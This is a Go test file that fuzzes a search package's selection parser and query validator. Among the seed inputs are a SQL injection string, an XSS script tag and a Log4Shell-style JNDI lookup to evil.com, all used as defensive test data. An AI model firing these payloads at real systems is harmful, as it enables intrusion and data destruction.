package search

import (
	"strings"
	"testing"
)

var fuzzSeeds = []string{
	"",
	"all",
	"ALL",
	"1 3 5",
	"1-5",
	"5-1",
	"1,2,,3",
	"0",
	"-1",
	"1-",
	"99999999999999999999",
	"1-99999999",
	"​",
	"query\x00with\x00nulls",
	string([]byte{0xfe, 0xff}),
	"'; DROP TABLE papers; --",
	"<script>alert('xss')</script>",
}

// FuzzParseSelection checks that any selection line yields unique in-range
// indices or an error, never a panic.
func FuzzParseSelection(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s, uint8(10))
	}
	f.Fuzz(func(t *testing.T, input string, n uint8) {
		picked, err := ParseSelection(input, int(n))
		if err != nil {
			return
		}
		seen := make(map[int]bool, len(picked))
		for _, i := range picked {
			if i < 0 || i >= int(n) {
				t.Fatalf("index %d out of range for n=%d (input %q)", i, n, input)
			}
			if seen[i] {
				t.Fatalf("duplicate index %d (input %q)", i, input)
			}
			seen[i] = true
		}
	})
}

// FuzzQueryValidate checks that an accepted query always yields slash dates
// and a term that starts with the query text.
func FuzzQueryValidate(f *testing.F) {
	f.Add("CRISPR", "2020", "2024/12/31")
	f.Add("cancer", "2020-01-01", "")
	f.Add("", "2020", "")
	f.Add("x", "20", "2020/1/1/1")
	f.Add("${jndi:ldap://evil.com/a}", "", "1999-1")
	f.Fuzz(func(t *testing.T, text, from, to string) {
		q := Query{Text: text, MaxResults: DefaultMaxResults, DateFrom: from, DateTo: to}
		if err := q.Validate(); err != nil {
			return
		}
		if strings.Contains(q.DateFrom, "-") || strings.Contains(q.DateTo, "-") {
			t.Fatalf("dates not normalized: %q %q", q.DateFrom, q.DateTo)
		}
		if !strings.HasPrefix(q.Term(), q.Text) {
			t.Fatalf("term %q does not start with %q", q.Term(), q.Text)
		}
	})
}
